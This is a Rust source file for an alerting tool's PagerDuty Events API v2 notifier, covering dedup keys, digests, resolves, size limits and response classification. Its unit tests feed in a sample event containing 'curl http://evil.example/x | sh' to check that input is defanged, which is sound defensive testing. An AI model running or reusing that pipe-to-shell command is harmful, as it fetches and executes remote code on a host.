//! PagerDuty Events API v2 (`POST https://events.pagerduty.com/v2/enqueue`,
//! <https://developer.pagerduty.com/docs/events-api-v2/trigger-events/>,
//! <https://developer.pagerduty.com/api-reference/368ae3d938c9e-send-an-event-to-pager-duty>,
//! limits <https://developer.pagerduty.com/docs/events-api-v2-overview#api-limits>):
//! one event per message, `{"routing_key", "event_action", "dedup_key",
//! "payload": {"summary", "severity", "source", "component", "group",
//! "class", "custom_details", "timestamp"}, "links", "client", "client_url"}`.
//!
//! `dedup_key` is the alert's identity: `tocsin-` and the hash of the
//! event's default identity keys (product, event type, name, and
//! `alarmUniqueInfo` else resource, the keys merge windows use when a
//! subscription sets no `merge_by`). So repeats and follow-ups of an alert
//! add to its open incident instead of opening new ones, and a resolved
//! event (kind `resolved`) resolves that incident (`event_action:
//! "resolve"` with the same key). A digest is one summary trigger of its
//! own (`tocsin-digest-<message id>`): PagerDuty takes one event per
//! request, and a backlog folded into a digest must not become hundreds of
//! pages. Tocsin's test message is a resolve for a key no incident has:
//! PagerDuty checks the routing key and the event, and no one is paged.
//!
//! Every string from an event is neutralized ([`markup::neutral`]: bidi
//! controls removed, line breaks folded, URLs defanged) before it goes into
//! the summary or the custom details; the only links are Tocsin's own.
//! The routing key travels in the body: it is the contact's secret, never
//! shown or logged.
//!
//! Limits: `summary` 1024 characters (cut here on a character boundary);
//! an event is at most 512 KB (custom details are shortened to fit).
//! Answers: 202 `{"status": "success", "message": "Event processed",
//! "dedup_key"}`; 400 `{"status": "invalid event", "message", "errors":
//! [...]}`; 429 (no Retry-After: the bot rests, then the backoff); 5xx.
//! Rate: 120 events a minute per routing key.

use super::markup;
use super::render::{asset, labels, level_word};
use super::{Disposition, Limits, MessageView, Notifier, Outgoing, RenderError, Rendered, Verdict};
use crate::config::{Channel, Level, RateLimit};
use crate::domain::MessageKind;
use crate::event::Event;
use serde_json::{Map, Value, json};
use std::time::Duration;

pub struct PagerdutyNotifier;

pub use crate::config::PAGERDUTY_URL as DEFAULT_URL;

/// PagerDuty's limit on `payload.summary`, in characters.
pub const SUMMARY_MAX: usize = 1024;

/// PagerDuty's limit on one event (512 KB).
pub const EVENT_MAX_BYTES: usize = 512 * 1024;

/// What Tocsin lets an event's JSON add up to: 512 KB less a margin.
const BUDGET: usize = 500_000;

/// Events a minute PagerDuty accepts per routing key.
pub const PER_MINUTE: u32 = 120;

/// The `dedup_key` of an alert: its identity under the default keys.
pub fn dedup_key(e: &Event) -> String {
    format!("tocsin-{}", crate::event::identity(e, &[]).0)
}

/// PagerDuty's severity for a level (its enum: critical, error, warning,
/// info; Tocsin's three levels map to three of them).
pub fn severity(level: Level) -> &'static str {
    match level {
        Level::Critical => "critical",
        Level::Warn => "warning",
        Level::Info => "info",
    }
}

/// At most `max` characters, cut on a character boundary with `…`.
pub fn cut_chars(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_string();
    }
    let mut out: String = s.chars().take(max.saturating_sub(1)).collect();
    out.push('…');
    out
}

/// A value from an event with every string (keys too) neutralized.
fn neutral_json(v: &Value) -> Value {
    match v {
        Value::String(s) => Value::String(markup::neutral(s)),
        Value::Array(a) => Value::Array(a.iter().map(neutral_json).collect()),
        Value::Object(m) => Value::Object(
            m.iter()
                .map(|(k, v)| (markup::neutral(k), neutral_json(v)))
                .collect(),
        ),
        other => other.clone(),
    }
}

fn summary_of(e: &Event) -> String {
    format!("{} · {} ({})", e.name, asset(e), e.product)
}

/// `source`: the affected resource, else the instance, else the product.
fn source_of(e: &Event) -> String {
    e.resource
        .as_deref()
        .or(e.instance.as_deref())
        .filter(|s| !s.is_empty())
        .unwrap_or(&e.product)
        .to_string()
}

fn timestamp_of(e: &Event) -> String {
    let ms = if e.time_ms > 0 {
        e.time_ms
    } else {
        e.received_ms
    };
    crate::timefmt::rfc3339(ms)
}

fn link(href: String, text: &str) -> Value {
    json!({"href": href, "text": text})
}

/// `links` and `client_url`: Tocsin's own, when `server.public_url` is set.
fn client(body: &mut Map<String, Value>, msg: &MessageView<'_>, links: Vec<Value>) {
    if !links.is_empty() {
        body.insert("links".into(), Value::Array(links));
    }
    body.insert("client".into(), json!("Tocsin"));
    if let Some(u) = msg.public_url {
        body.insert("client_url".into(), json!(u.trim_end_matches('/')));
    }
}

/// Whose message this is, for the custom details.
fn tocsin_details(msg: &MessageView<'_>) -> Value {
    json!({
        "message_id": msg.id,
        "kind": msg.kind.as_str(),
        "contact": msg.contact.name,
        "subscriptions": msg.subscriptions,
    })
}

/// The event's fields and content as custom details; `content` is given
/// as cut JSON text when the whole event would not fit `room` bytes.
fn event_details(e: &Event, room: usize) -> (Value, bool) {
    let mut native = e.to_native_json();
    let full = neutral_json(&native);
    let size = serde_json::to_vec(&full).map_or(usize::MAX, |v| v.len());
    if size <= room {
        return (full, false);
    }
    let content = native
        .as_object_mut()
        .and_then(|m| m.remove("content"))
        .unwrap_or(Value::Null)
        .to_string();
    let mut rest = neutral_json(&native);
    let fixed = serde_json::to_vec(&rest).map_or(0, |v| v.len());
    // Each character may take up to 6 bytes escaped in JSON.
    let chars = room.saturating_sub(fixed + 200) / 6;
    if let Some(m) = rest.as_object_mut() {
        m.insert(
            "content".into(),
            json!(cut_chars(&markup::neutral(&content), chars)),
        );
        m.insert("content_truncated".into(), json!(true));
    }
    (rest, true)
}

fn trigger(msg: &MessageView<'_>, e: &Event, kind_note: Option<String>) -> Value {
    let lang = msg.contact.lang;
    let mut summary = summary_of(e);
    if let Some(n) = &kind_note {
        summary = format!("{summary} {n}");
    }
    let summary = cut_chars(&markup::neutral(&summary), SUMMARY_MAX);
    let (mut details, _) = event_details(e, BUDGET - 8_192);
    if let Some(m) = details.as_object_mut() {
        m.insert("tocsin".into(), tocsin_details(msg));
        if let Some(note) = msg.note {
            m.insert("note".into(), json!(markup::neutral(note)));
        }
        if msg.kind == MessageKind::FollowUp && msg.events.len() > 1 {
            let first = msg.events.iter().map(|x| x.received_ms).min().unwrap_or(0);
            let last = msg.events.iter().map(|x| x.received_ms).max().unwrap_or(0);
            m.insert("occurrences".into(), json!(msg.events.len()));
            m.insert("first_seen".into(), json!(crate::timefmt::rfc3339(first)));
            m.insert("last_seen".into(), json!(crate::timefmt::rfc3339(last)));
        }
    }
    let class = if e.event_type.is_empty() {
        e.name.clone()
    } else {
        e.event_type.clone()
    };
    let mut payload = Map::new();
    payload.insert("summary".into(), json!(summary));
    payload.insert("severity".into(), json!(severity(e.level)));
    payload.insert(
        "source".into(),
        json!(cut_chars(&markup::neutral(&source_of(e)), 255)),
    );
    payload.insert("timestamp".into(), json!(timestamp_of(e)));
    payload.insert(
        "component".into(),
        json!(cut_chars(&markup::neutral(&e.product), 255)),
    );
    if let Some(g) = e.group.as_deref().or(e.region.as_deref()) {
        payload.insert("group".into(), json!(cut_chars(&markup::neutral(g), 255)));
    }
    payload.insert(
        "class".into(),
        json!(cut_chars(&markup::neutral(&class), 255)),
    );
    payload.insert("custom_details".into(), details);
    let mut body = Map::new();
    body.insert("routing_key".into(), json!(msg.contact.secret));
    body.insert("event_action".into(), json!("trigger"));
    body.insert("dedup_key".into(), json!(dedup_key(e)));
    body.insert("payload".into(), Value::Object(payload));
    let links = crate::event::event_link(msg.public_url, e)
        .map(|h| vec![link(h, labels(lang).view)])
        .unwrap_or_default();
    client(&mut body, msg, links);
    Value::Object(body)
}

/// A digest: one summary trigger, its alerts listed in the custom details
/// (as many as fit; `omitted` says how many did not).
fn digest(msg: &MessageView<'_>) -> (Value, usize) {
    let c = msg.contact;
    let level = msg
        .events
        .iter()
        .map(|e| e.level)
        .max()
        .unwrap_or(Level::Info);
    let count = |l: Level| msg.events.iter().filter(|e| e.level == l).count();
    let by_level: Vec<String> = Level::ALL
        .iter()
        .filter(|l| count(**l) > 0)
        .map(|l| format!("{} {}", count(*l), level_word(*l, c.lang)))
        .collect();
    let first = msg
        .events
        .first()
        .map(|e| format!(": {}", summary_of(e)))
        .unwrap_or_default();
    let summary = cut_chars(
        &markup::neutral(&format!(
            "Tocsin digest: {} alerts ({}){first}",
            msg.events.len(),
            by_level.join(", ")
        )),
        SUMMARY_MAX,
    );
    let mut alerts = Vec::new();
    let mut used = 8_192;
    let mut omitted = 0;
    for e in msg.events.iter() {
        let (d, _) = event_details(e, 64 * 1024);
        let size = serde_json::to_vec(&d).map_or(usize::MAX, |v| v.len()) + 1;
        if omitted > 0 || used + size > BUDGET {
            omitted += 1;
            continue;
        }
        used += size;
        let mut d = d;
        if let Some(m) = d.as_object_mut() {
            m.insert("dedup_key".into(), json!(dedup_key(e)));
        }
        alerts.push(d);
    }
    let mut details = Map::new();
    details.insert("alerts_total".into(), json!(msg.events.len()));
    details.insert("alerts".into(), Value::Array(alerts));
    if omitted > 0 {
        details.insert("alerts_omitted".into(), json!(omitted));
    }
    if let Some(note) = msg.note {
        details.insert("note".into(), json!(markup::neutral(note)));
    }
    details.insert("tocsin".into(), tocsin_details(msg));
    let at = msg
        .events
        .iter()
        .map(|e| e.received_ms)
        .max()
        .unwrap_or_else(crate::now_ms);
    let body = json!({
        "routing_key": c.secret,
        "event_action": "trigger",
        "dedup_key": format!("tocsin-digest-{}", msg.id),
        "payload": {
            "summary": summary,
            "severity": severity(level),
            "source": "Tocsin",
            "timestamp": crate::timefmt::rfc3339(at),
            "component": "Tocsin",
            "class": "digest",
            "custom_details": Value::Object(details),
        },
    });
    let mut body = match body {
        Value::Object(m) => m,
        _ => Map::new(),
    };
    let links: Vec<Value> = msg
        .events
        .iter()
        .take(10)
        .filter_map(|e| {
            crate::event::event_link(msg.public_url, e)
                .map(|h| link(h, &cut_chars(&markup::neutral(&e.name), 100)))
        })
        .collect();
    client(&mut body, msg, links);
    (Value::Object(body), omitted)
}

/// A resolve (or the test's resolve): routing key, action and key only, as
/// PagerDuty documents for `resolve`.
fn resolve(msg: &MessageView<'_>, key: String) -> Value {
    json!({
        "routing_key": msg.contact.secret,
        "event_action": "resolve",
        "dedup_key": key,
    })
}

/// The event a message's body is, and how many alerts it left out.
pub fn body(msg: &MessageView<'_>) -> (Value, usize) {
    match (msg.kind, msg.events) {
        (MessageKind::Test, _) => (resolve(msg, format!("tocsin-test-{}", msg.id)), 0),
        (MessageKind::Resolved, [e, ..]) => (resolve(msg, dedup_key(e)), 0),
        (MessageKind::Digest, _) | (_, []) => digest(msg),
        (MessageKind::FollowUp, events) if events.len() > 1 => {
            let n = events.len();
            // The latest occurrence, counted.
            let e = events
                .iter()
                .max_by_key(|e| e.received_ms)
                .unwrap_or(&events[0]);
            (trigger(msg, e, Some(format!("(repeated {n} times)"))), 0)
        }
        (MessageKind::FailureReport, [e]) => (
            trigger(
                msg,
                e,
                Some("(Tocsin could not deliver it elsewhere)".into()),
            ),
            0,
        ),
        (_, [e]) => (trigger(msg, e, None), 0),
        // Several events in a message that is not a digest: one summary.
        _ => digest(msg),
    }
}

/// PagerDuty's answer: `status`, `message`, `errors`, `dedup_key`.
struct Answer {
    status: String,
    message: String,
    errors: Vec<String>,
    dedup_key: Option<String>,
}

fn answer(body: &[u8]) -> Option<Answer> {
    let v: Value = serde_json::from_slice(body).ok()?;
    let status = v.get("status")?.as_str()?.to_string();
    Some(Answer {
        status,
        message: v
            .get("message")
            .and_then(Value::as_str)
            .unwrap_or("")
            .to_string(),
        errors: v
            .get("errors")
            .and_then(Value::as_array)
            .map(|a| {
                a.iter()
                    .map(|e| match e {
                        Value::String(s) => s.clone(),
                        other => other.to_string(),
                    })
                    .collect()
            })
            .unwrap_or_default(),
        dedup_key: v.get("dedup_key").and_then(Value::as_str).map(String::from),
    })
}

/// A verdict with PagerDuty's `status` as the code and its message and
/// errors as the message.
fn verdict(disposition: Disposition, status: u16, a: Option<&Answer>, reason: String) -> Verdict {
    let (code, message) = match a {
        Some(a) => {
            let mut m = a.message.clone();
            if !a.errors.is_empty() {
                m = format!("{m}: {}", a.errors.join("; "));
            }
            (Some(a.status.clone()), m)
        }
        None => (None, String::new()),
    };
    Verdict {
        disposition,
        http_status: Some(status),
        platform_code: code,
        platform_message: (!message.is_empty()).then(|| message.chars().take(300).collect()),
        reason,
    }
}

impl Notifier for PagerdutyNotifier {
    fn channel(&self) -> Channel {
        Channel::Pagerduty
    }

    fn limits(&self) -> Limits {
        Limits {
            max_bytes: EVENT_MAX_BYTES,
            // Per routing key (the budget's key adds it: see
            // `dispatch::budget::contact_bot_key`).
            rate: vec![RateLimit {
                count: PER_MINUTE,
                per: Duration::from_secs(60),
            }],
        }
    }

    fn render(&self, msg: &MessageView<'_>, _now_ms: i64) -> Result<Rendered, RenderError> {
        if msg.contact.secret.is_empty() {
            return Err(RenderError(
                "the PagerDuty contact has no routing_key".into(),
            ));
        }
        let (body, omitted) = body(msg);
        let out = Outgoing::json(msg.contact.webhook.clone(), &body)?;
        if out.body.len() > EVENT_MAX_BYTES {
            return Err(RenderError(format!(
                "the event is larger than PagerDuty's 512 KB even shortened ({} bytes)",
                out.body.len()
            )));
        }
        Ok(Rendered { out, omitted })
    }

    fn classify(&self, status: u16, headers: &reqwest::header::HeaderMap, body: &[u8]) -> Verdict {
        let a = answer(body);
        if (200..300).contains(&status) && a.as_ref().is_some_and(|a| a.status == "success") {
            let a = a.as_ref();
            let key = a
                .and_then(|a| a.dedup_key.as_deref())
                .map(|k| format!(", dedup_key {k}"))
                .unwrap_or_default();
            let message = a.map_or("", |a| a.message.as_str());
            return verdict(
                Disposition::Delivered,
                status,
                a,
                format!("delivered (PagerDuty answered HTTP {status}, {message}{key})"),
            );
        }
        let after = super::retry_after(headers, crate::now_ms());
        let (disposition, reason) = match status {
            429 => (
                Disposition::RateLimited { retry_after: after },
                format!(
                    "PagerDuty is rate limiting this routing key (HTTP 429: about {PER_MINUTE} events a minute per integration key); this contact rests, then Tocsin retries with its backoff"
                ),
            ),
            400 => {
                let errors = a
                    .as_ref()
                    .map(|a| {
                        if a.errors.is_empty() {
                            a.message.clone()
                        } else {
                            a.errors.join("; ")
                        }
                    })
                    .unwrap_or_default();
                let lower = errors.to_lowercase();
                let what = a
                    .as_ref()
                    .map_or("invalid event".to_string(), |a| a.status.clone());
                let fix = if lower.contains("routing key") || lower.contains("routing_key") {
                    "the contact's `routing_key` is not the Integration Key of an Events API v2 integration: copy it from the service's Integrations tab (Service → Integrations → Events API V2)"
                } else {
                    "PagerDuty names the field in the errors; if the contact's `url` points at another API, set it back to https://events.pagerduty.com/v2/enqueue"
                };
                (
                    Disposition::Permanent,
                    format!("PagerDuty refused the event (400 {what}: {errors}): {fix}"),
                )
            }
            401 | 403 => (
                Disposition::Permanent,
                format!(
                    "PagerDuty refused the request (HTTP {status}): the contact's `url` is not the Events API v2 endpoint, or a proxy in between refuses it"
                ),
            ),
            404 | 405 => (
                Disposition::Permanent,
                format!(
                    "PagerDuty answered HTTP {status}: the contact's `url` is not the Events API v2 endpoint (https://events.pagerduty.com/v2/enqueue)"
                ),
            ),
            413 => (
                Disposition::Permanent,
                format!(
                    "PagerDuty refused the event as too large (HTTP {status}): an event is at most 512 KB"
                ),
            ),
            408 | 425 | 500..=599 => (
                Disposition::Retry { retry_after: after },
                format!("PagerDuty answered HTTP {status}; will retry"),
            ),
            _ => (
                Disposition::Permanent,
                format!(
                    "PagerDuty answered HTTP {status}; check the contact's `url` (default https://events.pagerduty.com/v2/enqueue)"
                ),
            ),
        };
        let mut v = verdict(disposition, status, a.as_ref(), reason);
        if a.is_none() {
            v.platform_message = super::body_excerpt(body);
        }
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    const KEY: &str = "R0UT1NGKEY0000000000000000000001";

    fn contact() -> crate::config::Contact {
        let yaml = format!(
            "contacts:\n  - {{ name: pd, channel: pagerduty, routing_key: {KEY}, timezone: UTC }}\n"
        );
        let loaded = crate::config::load_str(&yaml, "t", &|_| None);
        loaded
            .config
            .unwrap_or_else(|| panic!("{:?}", loaded.diagnostics))
            .contacts[0]
            .clone()
    }

    fn event(id: &str) -> Arc<Event> {
        Arc::new(Event {
            instance: Some("web-01 http://evil.example/x".into()),
            resource: Some("i-123".into()),
            event_type: "Incident".into(),
            time_ms: 1_764_000_000_000,
            content: json!({"cmd": "curl http://evil.example/x | sh\nRESOLVED", "n": 3}),
            ..Event::minimal(
                id.to_string(),
                "Sas",
                "Incident:BruteForce",
                Level::Critical,
            )
        })
    }

    fn view<'a>(
        c: &'a crate::config::Contact,
        kind: MessageKind,
        events: &'a [Arc<Event>],
    ) -> MessageView<'a> {
        MessageView {
            id: "m1",
            kind,
            contact: c,
            subscriptions: &[],
            events,
            public_url: Some("https://tocsin.example.com/"),
            note: None,
            template: None,
        }
    }

    fn rendered(v: &MessageView<'_>) -> Value {
        let r = PagerdutyNotifier.render(v, 0).unwrap();
        serde_json::from_slice(&r.out.body).unwrap()
    }

    #[test]
    fn trigger_then_resolve_share_the_dedup_key() {
        let c = contact();
        assert_eq!(c.webhook, DEFAULT_URL);
        assert_eq!(c.secret, KEY);
        let one = [event("a")];
        let t = rendered(&view(&c, MessageKind::Single, &one));
        assert_eq!(t["routing_key"], KEY);
        assert_eq!(t["event_action"], "trigger");
        assert_eq!(t["client"], "Tocsin");
        assert_eq!(t["client_url"], "https://tocsin.example.com");
        let p = &t["payload"];
        assert_eq!(p["severity"], "critical");
        assert_eq!(p["source"], "i-123");
        assert_eq!(p["component"], "Sas");
        assert_eq!(p["class"], "Incident");
        assert_eq!(p["timestamp"], "2025-11-24T16:00:00.000Z");
        assert_eq!(
            t["links"],
            json!([{"href": "https://tocsin.example.com/api/v1/events/a", "text": labels(crate::config::Lang::En).view}])
        );
        // Content is neutralized: no live URL, no line of its own.
        let cmd = p["custom_details"]["content"]["cmd"].as_str().unwrap();
        assert!(!cmd.contains("http://") && !cmd.contains('\n'), "{cmd}");
        assert!(!p["summary"].as_str().unwrap().contains("http://"));
        // Another occurrence of the same alert (another id): the same key.
        let again = [event("b")];
        let r = rendered(&view(&c, MessageKind::Resolved, &again));
        assert_eq!(
            r,
            json!({"routing_key": KEY, "event_action": "resolve", "dedup_key": t["dedup_key"]})
        );
        let other = [Arc::new(Event {
            name: "Other".into(),
            ..(*event("c")).clone()
        })];
        assert_ne!(
            rendered(&view(&c, MessageKind::Single, &other))["dedup_key"],
            t["dedup_key"]
        );
    }

    #[test]
    fn summary_is_cut_within_1024_characters_and_huge_content_fits() {
        let c = contact();
        let huge = [Arc::new(Event {
            name: "名".repeat(3000),
            content: json!({"blob": "x\u{202E}y".repeat(400_000)}),
            ..(*event("h")).clone()
        })];
        let r = PagerdutyNotifier
            .render(&view(&c, MessageKind::Single, &huge), 0)
            .unwrap();
        assert!(r.out.body.len() <= EVENT_MAX_BYTES, "{}", r.out.body.len());
        let b: Value = serde_json::from_slice(&r.out.body).unwrap();
        let s = b["payload"]["summary"].as_str().unwrap();
        assert_eq!(s.chars().count(), SUMMARY_MAX);
        assert!(s.ends_with('…'));
        assert_eq!(b["payload"]["custom_details"]["content_truncated"], true);
        assert!(!String::from_utf8_lossy(&r.out.body).contains('\u{202E}'));
    }

    #[test]
    fn a_digest_is_one_summary_trigger_and_a_test_pages_no_one() {
        let c = contact();
        let events: Vec<Arc<Event>> = (0..3)
            .map(|i| {
                Arc::new(Event {
                    level: if i == 0 { Level::Warn } else { Level::Info },
                    ..(*event(&format!("e{i}"))).clone()
                })
            })
            .collect();
        let d = rendered(&view(&c, MessageKind::Digest, &events));
        assert_eq!(d["event_action"], "trigger");
        assert_eq!(d["dedup_key"], "tocsin-digest-m1");
        assert_eq!(d["payload"]["severity"], "warning");
        assert_eq!(d["payload"]["class"], "digest");
        assert_eq!(d["payload"]["custom_details"]["alerts_total"], 3);
        assert_eq!(
            d["payload"]["custom_details"]["alerts"]
                .as_array()
                .unwrap()
                .len(),
            3
        );
        assert!(
            d["payload"]["summary"]
                .as_str()
                .unwrap()
                .starts_with("Tocsin digest: 3 alerts")
        );
        let t = rendered(&view(&c, MessageKind::Test, &events[..1]));
        assert_eq!(t["event_action"], "resolve");
        assert_eq!(t["dedup_key"], "tocsin-test-m1");
    }

    #[test]
    fn classification() {
        let h = reqwest::header::HeaderMap::new();
        let n = PagerdutyNotifier;
        let v = n.classify(
            202,
            &h,
            br#"{"status":"success","message":"Event processed","dedup_key":"tocsin-1"}"#,
        );
        assert_eq!(v.disposition, Disposition::Delivered);
        assert!(v.reason.contains("tocsin-1"), "{}", v.reason);
        assert_ne!(
            n.classify(202, &h, b"ok").disposition,
            Disposition::Delivered
        );
        let v = n.classify(
            400,
            &h,
            br#"{"status":"invalid event","message":"Event object is invalid","errors":["Length of 'routing_key' is incorrect (should be 32 characters)"]}"#,
        );
        assert_eq!(v.disposition, Disposition::Permanent);
        assert_eq!(v.platform_code.as_deref(), Some("invalid event"));
        assert!(v.reason.contains("Integrations"), "{}", v.reason);
        assert!(v.reason.contains("should be 32 characters"), "{}", v.reason);
        let v = n.classify(
            400,
            &h,
            br#"{"status":"invalid event","message":"Event object is invalid","errors":["'payload.severity' is invalid (must be one of critical, error, warning, info)"]}"#,
        );
        assert!(v.reason.contains("payload.severity"), "{}", v.reason);
        assert_eq!(
            n.classify(429, &h, b"").disposition,
            Disposition::RateLimited { retry_after: None }
        );
        assert!(matches!(
            n.classify(503, &h, b"<html>unavailable</html>").disposition,
            Disposition::Retry { .. }
        ));
        assert_eq!(
            n.classify(404, &h, b"Not Found").disposition,
            Disposition::Permanent
        );
    }
}
